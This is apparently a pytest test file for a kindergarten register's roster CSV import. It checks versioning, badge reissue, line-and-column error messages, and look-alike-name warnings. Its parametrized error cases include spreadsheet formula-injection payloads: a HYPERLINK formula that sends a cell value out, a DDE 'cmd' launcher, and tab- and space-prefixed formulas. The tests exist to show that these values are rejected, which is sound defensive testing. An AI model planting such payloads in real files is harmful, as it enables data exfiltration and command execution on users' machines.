"""Rosters at the register: CSV import (Kazakh and Russian names), versions, the document, badge reissue."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from kgate.cli import main
from register.errors import RosterImportError
from register.roster_csv import fold, parse_csv, read_roster
from register.store import Store, open_store
from register.store.roster import import_roster, reissue_badge, roster_document, roster_versions
from terminal.badge import new_serial

KEPT = new_serial()
CSV = f"""kind,id,name,group,consent_face,badge,guardian_of
child,c-001,Әлихан Нұрланұлы,Күншуақ,yes,{KEPT},
child,c-002,Аружан Серікқызы,Күншуақ,no,,
child,c-003,Мария Иванова,Солнышко,,,
guardian,g-01,Нұрлан Әлиұлы,,,,c-001;c-002
guardian,g-02,Анна Иванова,,,,c-003
""".encode()


@pytest.fixture
def store(db_url: str) -> Iterator[Store]:
    s = open_store(db_url)
    yield s
    s.close()


def _doc(store: Store, k: str = "K1") -> dict[str, Any]:
    doc: dict[str, Any] = json.loads(roster_document(store, k))
    return doc


def test_import_makes_the_document(store: Store) -> None:
    assert import_roster(store, "K1", parse_csv(CSV)) == 1
    raw = roster_document(store, "K1")
    doc = json.loads(raw)
    assert raw == json.dumps(doc, ensure_ascii=False, sort_keys=True, separators=(",", ":")).encode()
    assert doc["version"] == 1 and doc["kindergarten"] == "K1"
    assert doc["children"][0] == {
        "id": "c-001",
        "name": "Әлихан Нұрланұлы",
        "group": "Күншуақ",
        "consent_face": True,
    }
    assert [c["consent_face"] for c in doc["children"]] == [True, False, False]
    assert doc["guardians"] == [
        {"id": "g-01", "name": "Нұрлан Әлиұлы", "children": ["c-001", "c-002"]},
        {"id": "g-02", "name": "Анна Иванова", "children": ["c-003"]},
    ]
    holders = {(b.get("child") or b.get("guardian")): b for b in doc["badges"]}
    assert set(holders) == {"c-001", "c-002", "c-003", "g-01", "g-02"}
    assert holders["c-001"]["serial"] == KEPT
    assert all(not b["revoked"] and len(b["serial"]) == 16 for b in doc["badges"])
    assert roster_document(store, "K1") == raw  # deterministic


def test_versions_are_monotonic_and_unchanged_import_is_a_noop(store: Store) -> None:
    assert import_roster(store, "K1", parse_csv(CSV)) == 1
    first = _doc(store)
    assert import_roster(store, "K1", parse_csv(CSV)) == 1  # same content: no new version, same serials
    assert _doc(store) == first
    smaller = b"\n".join(line for line in CSV.splitlines() if b"c-003" not in line) + b"\n"
    assert import_roster(store, "K1", parse_csv(smaller)) == 2
    doc = _doc(store)
    assert doc["version"] == 2 and [c["id"] for c in doc["children"]] == ["c-001", "c-002"]
    serial, version = reissue_badge(store, "K1", "c-002")
    assert version == 3
    badges = {b["serial"]: b for b in _doc(store)["badges"]}
    old = next(b for s, b in badges.items() if b.get("child") == "c-002" and s != serial)
    assert old["revoked"] is True and badges[serial]["revoked"] is False
    assert [v.version for v in roster_versions(store, "K1")] == [1, 2, 3]
    assert roster_document(store, "K1", 1) != roster_document(store, "K1", 3)
    assert import_roster(store, "K2", parse_csv(CSV.replace(KEPT.encode(), b""))) == 1  # per kindergarten


@pytest.mark.parametrize(
    ("csv", "where"),
    [
        (b"kind,id,name,group\nchild,c1,\xd0\x90\xff,G\n", "line 2: not UTF-8"),
        (b"kind,id,nom\n", "line 1, column 3: unknown column 'nom'"),
        (b"kind,id,group\n", "line 1: missing column 'name'"),
        (b"kind,id,name,group\nchild,c1,A,G\npupil,c2,B,G\n", "line 3, column 1 (kind)"),
        (b"kind,id,name,group\nchild,c1,A,G\nchild,c\xd0\xb0,B,G\n", "line 3, column 2 (id)"),
        (
            "kind,id,name,group\nchild,c1,Ali\u202ekhan,G\n".encode(),
            "line 2, column 3 (name): control or bidi",
        ),
        ("kind,id,name,group\nchild,c1,Ali,G\u200b\n".encode(), "line 2, column 4 (group)"),
        (b"kind,id,name,group\nchild,c1,A\x07,G\n", "line 2, column 3 (name)"),
        (b"kind,id,name,group,badge\nchild,c1,A,G,0000\n", "line 2, column 5 (badge)"),
        (b"kind,id,name,group,consent_face\nchild,c1,A,G,maybe\n", "line 2, column 5 (consent_face)"),
        (b"kind,id,name,group,guardian_of\nchild,c1,A,G,\nguardian,g1,B,,c9\n", "line 3, column guardian_of"),
        (b"kind,id,name,group\nchild,c1,A,G\nchild,c1,B,G\n", "line 3: child id 'c1' already on line 2"),
        (b"kind,id,name,group\nchild,c1,A,G,extra\n", "line 2: 5 fields"),
        (b"kind,id,name,group\n", "no children"),
        (
            'kind,id,name,group\nchild,c1,A,G\nchild,c2,"=HYPERLINK(""http://x""&B2,""открыть"")",G\n'.encode(),
            "line 3, column 3 (name): must not begin with = + - @ or a tab",
        ),
        (
            b"kind,id,name,group\nchild,c1,A,G\nchild,c2,+cmd|' /C calc'!A0,G\n",
            "line 3, column 3 (name): must",
        ),
        (b"kind,id,group,name\nchild,c1,G,@SUM(1+1)\n", "line 2, column 4 (name): must not begin"),
        (b"kind,id,name,group\nchild,c1,-2+3,G\n", "line 2, column 3 (name): must not begin"),
        (b"kind,id,name,group\nchild,c1,\t=1+1,G\n", "line 2, column 3 (name): must not begin"),
        (b"kind,id,name,group\nchild,c1,\tAli,G\n", "line 2, column 3 (name): must not begin"),
        (b"kind,id,name,group\nchild,c1,  =1+1,G\n", "line 2, column 3 (name): must not begin"),
        (b"kind,id,name,group\nchild,c1,Ali,=1+1\n", "line 2, column 4 (group): must not begin"),
        (b"kind,id,name,group,guardian_of\nchild,c1,A,G,\nguardian,g1,@B,,c1\n", "line 3, column 3 (name)"),
    ],
)
def test_csv_errors_name_line_and_column_and_change_nothing(
    store: Store, tmp_path: Path, csv: bytes, where: str, *, capsys: pytest.CaptureFixture[str], db_url: str
) -> None:
    import_roster(store, "K1", parse_csv(CSV))
    before = roster_document(store, "K1")
    with pytest.raises(RosterImportError) as err:
        parse_csv(csv)
    assert where in str(err.value)
    path = tmp_path / "bad.csv"
    path.write_bytes(csv)
    assert main(["register", "roster", "import", "--kindergarten", "K1", str(path), "--db", db_url]) == 2
    out = capsys.readouterr().err
    assert out.startswith("kgate: error: ") and where in out and out.count("\n") == 1
    assert roster_document(store, "K1") == before


def test_a_serial_issued_elsewhere_is_refused(store: Store) -> None:
    import_roster(store, "K1", parse_csv(CSV))
    stolen = CSV.replace(KEPT.encode(), b"").replace(b"c-002,\xd0", b"c-002,\xd0")  # K2 tries K1's serial:
    csv2 = stolen.replace(b"no,,", f"no,{KEPT},".encode())
    with pytest.raises(RosterImportError, match=r"line 3, column badge: serial .* already issued"):
        import_roster(store, "K2", parse_csv(csv2))
    with pytest.raises(Exception, match="no roster"):
        roster_document(store, "K2")


def test_cli_import_show_reissue(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = str(tmp_path / "r.db")
    path = tmp_path / "roster.csv"
    path.write_bytes(CSV)
    assert main(["register", "init", "--db", db]) == 0  # only init and serve create a database
    assert main(["register", "roster", "import", "--kindergarten", "K1", str(path), "--db", db]) == 0
    assert "roster version 1 (new version): 3 children, 2 guardians" in capsys.readouterr().out
    assert main(["register", "badge", "reissue", "c-001", "--kindergarten", "K1", "--db", db]) == 0
    assert "revoked in roster version 2" in capsys.readouterr().out
    assert main(["register", "roster", "show", "--kindergarten", "K1", "--db", db]) == 0
    doc = json.loads(capsys.readouterr().out)
    assert doc["version"] == 2 and any(b["serial"] == KEPT and b["revoked"] for b in doc["badges"])
    assert main(["register", "badge", "reissue", "nobody", "--kindergarten", "K1", "--db", db]) == 2


def test_lookalike_names_are_imported_with_a_warning(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    latin_a = "A"  # U+0041 where the other names have Cyrillic U+0410
    csv = (
        "kind,id,group,name,guardian_of\n"
        "child,c-001,Күншуақ,Анна Иванова,\n"
        f"child,c-002,Күншуақ,{latin_a}нна Иванова,\n"  # mixed scripts, and the same as line 2 folded
        "child,c-003,Күншуақ,\u0410нна Ivanova,\n"  # two scripts, no word mixed, not the same folded
        "child,c-004,Күншуақ,Анна Иванова,\n"  # the very same name: two children may share one
        "child,c-005,Күншуақ,Әлихан Нұрланұлы,\n"
        "child,c-006,Күншуақ,Мария-Анна O'Brien,\n"
        "guardian,g-01,,Анна Иванова,c-001\n"  # a guardian is not compared with the children
    )
    people, warnings = read_roster(csv.encode())
    assert len(people) == 7
    assert warnings == [
        "line 3, column 4 (name): 'Aнна Иванова' mixes Latin and Cyrillic letters in one word "
        "(a look-alike?)",
        "line 3, column 4 (name): 'Aнна Иванова' looks the same as 'Анна Иванова' on line 2 "
        "(they differ only in look-alike letters)",
    ]
    assert fold("Aнна Ivanova") != fold("Анна Иванова")  # Latin "Iv" is no look-alike of Cyrillic "Ив"
    assert fold("Мария") == fold("Mapия") and fold("ΚΟΡΑ") == fold("КОРА") == "KOPA"
    path = tmp_path / "roster.csv"
    path.write_text(csv, encoding="utf-8")
    db = str(tmp_path / "r.db")
    assert main(["register", "init", "--db", db]) == 0  # only init and serve create a database
    assert main(["register", "roster", "import", "--kindergarten", "K1", str(path), "--db", db]) == 0
    out = capsys.readouterr()
    assert "roster version 1 (new version): 6 children, 1 guardians" in out.out
    assert out.err.splitlines() == [f"kgate: warning: {w}" for w in warnings]
